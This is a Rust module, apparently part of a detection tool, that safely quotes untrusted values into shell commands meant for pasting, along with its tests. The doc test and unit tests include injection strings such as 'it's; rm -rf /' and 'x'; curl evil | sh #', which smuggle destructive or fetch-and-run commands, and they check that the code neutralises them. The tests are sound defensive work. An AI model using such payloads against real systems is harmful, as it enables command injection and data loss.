//! Commands for a person to paste, with values from records in them.
//!
//! Whoever is attacked copies these commands in a hurry, and the values may be the attacker's. So a
//! value stands in single quotes unless it is plainly harmless, and one that could do harm even there
//! — control characters, which a terminal obeys, or a leading dash, which the command takes for an
//! option — is not shown at all: its place is named instead.
//!
//! Source: POSIX.1-2017, *Shell Command Language*, section 2.2.2, *Single-Quotes*.

use std::borrow::Cow;

/// The longest value that is put into a command, in bytes; the longest ARN has 2048.
const MAX: usize = 2048;

/// Puts values into the `${…}` places of `template`; `value` looks up a place's name.
///
/// A place without a value, or with one that is not safe, becomes `'<name>'` for the reader to fill.
#[must_use]
pub fn fill<'v>(template: &str, value: impl Fn(&str) -> Option<Cow<'v, str>>) -> String {
    let mut command = String::with_capacity(template.len());
    let mut rest = template;
    while let Some((before, place)) = rest.split_once("${") {
        let Some((name, behind)) = place.split_once('}') else {
            break;
        };
        command.push_str(before);
        match value(name).filter(|value| is_safe(value)) {
            Some(value) => command.push_str(&quote(&value)),
            None => command.push_str(&format!("'<{name}>'")),
        }
        rest = behind;
    }
    command.push_str(rest);
    command
}

/// `value` as one word of a POSIX shell.
///
/// ```
/// # use detect::shell::quote;
/// assert_eq!(quote("i-0abc"), "i-0abc");
/// assert_eq!(quote("it's; rm -rf /"), r"'it'\''s; rm -rf /'");
/// ```
#[must_use]
pub fn quote(value: &str) -> Cow<'_, str> {
    let plain = |b: u8| b.is_ascii_alphanumeric() || b"_-./:@=,+%".contains(&b);
    if !value.is_empty() && value.bytes().all(plain) {
        return Cow::Borrowed(value);
    }
    Cow::Owned(format!("'{}'", value.replace('\'', r"'\''")))
}

fn is_safe(value: &str) -> bool {
    // Characters that are not seen, or turn the writing around, hide what is pasted.
    let hidden = |c: char| {
        c.is_control()
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
    };
    !value.is_empty() && value.len() <= MAX && !value.starts_with('-') && !value.contains(hidden)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn places_are_filled_and_quoted() {
        let values = |name: &str| match name {
            "name" => Some(Cow::Borrowed("main trail")),
            "region" => Some(Cow::Borrowed("eu-west-1")),
            "evil" => Some(Cow::Borrowed("x'; curl evil | sh #")),
            "dash" => Some(Cow::Borrowed("--profile=root")),
            "bell" => Some(Cow::Borrowed("a\u{7}\n")),
            _ => None,
        };
        for (template, expected) in [
            (
                "start --name ${name} --region ${region}",
                "start --name 'main trail' --region eu-west-1",
            ),
            ("x ${evil}", r"x 'x'\''; curl evil | sh #'"),
            ("x ${dash} ${bell} ${gone}", "x '<dash>' '<bell>' '<gone>'"),
            ("no ${end", "no ${end"),
        ] {
            assert_eq!(fill(template, values), expected);
        }
    }

    proptest! {
        #[test]
        fn a_shell_reads_back_what_was_quoted(value in "[ -~é]{0,20}") {
            let output = std::process::Command::new("sh")
                .arg("-c").arg(format!("printf %s {}", quote(&value))).output().unwrap();
            prop_assert_eq!(String::from_utf8(output.stdout).unwrap(), value);
        }
    }
}
